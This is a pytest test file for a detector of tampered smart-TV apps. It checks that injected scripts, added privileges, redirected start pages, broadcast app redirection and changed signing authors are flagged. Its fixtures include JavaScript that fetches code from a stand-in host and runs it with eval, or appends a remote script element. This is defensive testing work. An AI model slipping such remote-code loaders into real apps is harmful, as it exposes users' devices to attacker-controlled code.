"""TV apps: code put into one, what it may reach and do, who made it; and what an app's own new look is not."""

import datetime as dt
from base64 import b64encode

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from hypothesis import given
from hypothesis import strategies as st

from trueware.errors import InputError
from trueware.explaining.detectors.tv_apps import TvApps
from trueware.explaining.reading.tv_app import author, read_app, signed_names
from trueware.model.finding import Severity

from .cases import case, findings, rules

CONFIG = b"""<?xml version="1.0"?>
<widget xmlns="http://www.w3.org/ns/widgets" xmlns:tizen="http://tizen.org/ns/widgets" id="http://x.example.net" version="1.2">
<tizen:application id="abc.App" package="abc" required_version="2.3"/><name>App</name>
<content src="index.html"/><access origin="https://x.example.net" subdomains="true"/>
<tizen:privilege name="http://tizen.org/privilege/internet"/>
</widget>"""
INDEX = b"<html><head><script src='main.js'></script><script>start(1)</script></head><body></body></html>"
MAIN = b"function start(n) { document.title = 'App ' + n }"
APP = {"app/config.xml": CONFIG, "app/index.html": INDEX, "app/main.js": MAIN}


def changed(**files: bytes | None) -> list[str]:
    """Return the rules where these files of the app are other; names have ``_`` for a dot."""
    suspect = dict(APP)
    for name, data in files.items():
        path = "app/" + name.replace("_", ".")
        if data is None:
            del suspect[path]
        else:
            suspect[path] = data
    return rules(TvApps, case(APP, suspect))


def test_scripts_put_into_a_page() -> None:
    assert changed(index_html=INDEX.replace(b"</head>", b"<script src=mod.js></script></head>")) == [
        "app-script-injected"
    ]
    assert changed(index_html=INDEX.replace(b"</head>", b"<script>more()</script></head>")) == ["app-script-injected"]
    assert changed(index_html=INDEX.replace(b"start(1)", b"start(2)")) == ["app-page-script-changed"]
    remote = INDEX.replace(b"</head>", b"<script src=https://cdn.example.org/x.js></script>")
    (found,) = findings(TvApps, case(APP, {**APP, "app/index.html": remote}))
    assert (found.rule, found.touches) == ("app-remote-content", ("host:cdn.example.org",))


def test_pages_that_only_look_different() -> None:
    assert changed(index_html=INDEX + b"<p>Hello") == ["app-page-changed"]
    assert changed(index_html=INDEX.replace(b"start(1)", b"start( 1 ) // one\n")) == ["app-page-changed"]
    assert changed(main_js=MAIN.replace(b"{ ", b"\n{\n")) == ["app-page-changed"]
    assert changed(main_js=None) == ["app-page-changed"]


def test_scripts_that_were_added_or_are_other() -> None:
    assert changed(main_js=MAIN + b"start(2)") == ["app-script-changed"]
    assert changed(mod_js=b"start(2)") == ["app-script-added"]
    (empty,) = findings(TvApps, case(APP, {**APP, "app/mod.js": b""}))
    assert empty.severity is Severity.INFO


def test_whether_a_signature_names_a_script() -> None:
    signature = b"<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'><Reference URI='js%2Fown.js'/></Signature>"
    signed = {**APP, "app/author-signature.xml": signature}
    suspect = {**signed, "app/js/own.js": b"f()", "app/js/mod.js": b"f()"}
    told = {each.part: each.detail for each in findings(TvApps, case(signed, suspect))}
    assert "no signature" in told["app/js/mod.js"]
    assert "no signature" not in told["app/js/own.js"]


def test_what_a_script_does_with_other_machines() -> None:
    blocking = b"var x = new XMLHttpRequest(); x.open('GET', 'https://easylist.to/easylist/easylist.txt');"
    assert changed(mod_js=blocking) == ["app-ads-blocked", "app-script-added"]
    loading = b"fetch('https://c.example.net/x').then(r => r.text()).then(t => eval(t))"
    assert changed(mod_js=loading) == ["app-code-fetched", "app-script-added"]
    element = b"var s = document.createElement('script'); s.src = 'https://c.example.net/x.js'; document.body.append(s)"
    assert changed(main_js=MAIN + element) == ["app-code-fetched", "app-script-changed"]
    inline = INDEX.replace(b"</head>", b"<script>" + loading + b"</script></head>")
    assert changed(index_html=inline) == ["app-code-fetched", "app-script-injected"]
    assert changed(mod_js=b"fetch('https://c.example.net/x.json').then(show)") == ["app-script-added"]
    assert changed(mod_js=b"eval('1 + 1'); fetch('own.json') // https://c.example.net") == ["app-script-added"]


def test_what_the_genuine_script_does_too_is_none() -> None:
    loading = b"fetch('https://c.example.net/x').then(r => r.text()).then(t => eval(t));"
    genuine = {**APP, "app/main.js": loading}
    assert rules(TvApps, case(genuine, {**APP, "app/main.js": loading + b"f()"})) == ["app-script-changed"]


@pytest.mark.parametrize(
    ("old", "new", "rule", "severity"),
    [
        (b"</widget>", b"<access origin='*'/></widget>", "app-reach-widened", Severity.HIGH),
        (b"</widget>", b"<access origin='http://y.example.net'/></widget>", "app-reach-widened", Severity.MEDIUM),
        (
            b"</widget>",
            b"<tizen:privilege name='http://tizen.org/privilege/filesystem.write'/></widget>",
            "app-privileges-added",
            Severity.MEDIUM,
        ),
        (
            b"</widget>",
            b"<tizen:privilege name='http://tizen.org/privilege/recorder'/></widget>",
            "app-may-watch-home",
            Severity.HIGH,
        ),
        (
            b"</widget>",
            b"<tizen:privilege name='http://tizen.org/privilege/contact.read'/></widget>",
            "app-may-read-people",
            Severity.HIGH,
        ),
        (
            b"</widget>",
            b"<tizen:service id='abc.S'><tizen:content src='s.js'/></tizen:service></widget>",
            "app-service-added",
            Severity.MEDIUM,
        ),
        (b'src="index.html"', b'src="http://y.example.net/"', "app-start-changed", Severity.HIGH),
    ],
)
def test_what_a_widget_may_do(old: bytes, new: bytes, rule: str, severity: Severity) -> None:
    (found,) = findings(TvApps, case(APP, {**APP, "app/config.xml": CONFIG.replace(old, new)}))
    assert (found.rule, found.severity) == (rule, severity)


def test_less_reach_and_other_words_are_none() -> None:
    assert changed(config_xml=CONFIG.replace(b"<access", b"<other")) == []
    assert changed(config_xml=CONFIG.replace(b"<name>App", b"<name>Other")) == []


def test_webos_and_kodi() -> None:
    genuine = {"a/appinfo.json": b'{"id": "x", "main": "index.html", "requiredPermissions": ["time"]}'}
    suspect = {
        "a/appinfo.json": b'{"id": "x", "main": "https://y.example.net/", "requiredPermissions": ["time", "all"]}'
    }
    assert rules(TvApps, case(genuine, suspect)) == ["app-privileges-added", "app-start-changed"]
    addon = b"<addon id='plugin.x' name='X' version='1'><extension point='xbmc.python.pluginsource' library='a.py'/></addon>"
    service = addon.replace(b"</addon>", b"<extension point='xbmc.service' library='s.py'/></addon>")
    path = "usr/share/kodi/addons/plugin.x/addon.xml"
    assert rules(TvApps, case({}, {path: addon})) == ["tv-app-added"]
    assert rules(TvApps, case({path: addon}, {path: service})) == ["app-service-added"]
    (own,) = findings(TvApps, case({}, {path: addon}, mutable=("usr/share/kodi/**",)))
    assert own.severity is Severity.INFO


AIT = (
    b'<mhp:ServiceDiscovery xmlns:mhp="urn:dvb:mhp:2009"><mhp:ApplicationDiscovery><mhp:ApplicationList><mhp:Application>'
    b"<mhp:applicationTransport><mhp:URLBase>http://hbbtv.example.net/</mhp:URLBase></mhp:applicationTransport>"
    b"<mhp:applicationLocation>index.html</mhp:applicationLocation></mhp:Application></mhp:ApplicationList>"
    b"</mhp:ApplicationDiscovery></mhp:ServiceDiscovery>"
)


def test_applications_of_a_broadcast() -> None:
    path = "usr/share/hbbtv/channel.aitx"
    other = AIT.replace(b"hbbtv.example.net", b"hbbtv.example.org")
    (found,) = findings(TvApps, case({path: AIT}, {path: other}))
    assert (found.rule, found.touches) == ("broadcast-app-redirected", ("host:hbbtv.example.org",))
    assert found.evidence[0].expected == "http://hbbtv.example.net/index.html"
    assert rules(TvApps, case({path: AIT}, {path: AIT.replace(b"index.html", b"start.html")})) == []
    assert rules(TvApps, case({path: AIT}, {path: b"<other/>"})) == []


def test_what_belongs_to_no_app_is_not_asked_about() -> None:
    assert (
        rules(TvApps, case({}, {"www/index.html": INDEX, "www/main.js": MAIN, "etc/config.xml": b"<settings/>"})) == []
    )


def test_another_author() -> None:
    one, other = (_signature(name) for name in ("maker", "somebody"))
    genuine = {**APP, "app/author-signature.xml": one}
    (found,) = findings(TvApps, case(genuine, {**APP, "app/author-signature.xml": other}))
    assert (found.rule, found.detail) == ("app-author-changed", "CN=somebody")
    again = _signature("maker")
    assert rules(TvApps, case(genuine, {**APP, "app/author-signature.xml": again})) == ["app-signed-anew"]


def _signature(name: str) -> bytes:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, name)])
    start = dt.datetime(2024, 1, 1, tzinfo=dt.UTC)
    built = x509.CertificateBuilder(subject, subject, key.public_key(), 1, start, start + dt.timedelta(9))
    der = built.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
    return (
        b"<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'><Reference URI='index.html'/><X509Certificate>"
        + b64encode(der)
        + b"</X509Certificate></Signature>"
    )


@given(st.binary(max_size=200))
def test_any_bytes_are_a_description_or_refused(data: bytes) -> None:
    for name in ("config.xml", "appinfo.json", "services.json", "tizen-manifest.xml", "addon.xml"):
        try:
            read_app(name, data)
        except InputError:
            continue
    for read in (author, signed_names):
        try:
            read(data)
        except InputError:
            continue
    assert bool(changed(index_html=INDEX + data, main_js=MAIN + data)) == bool(data)
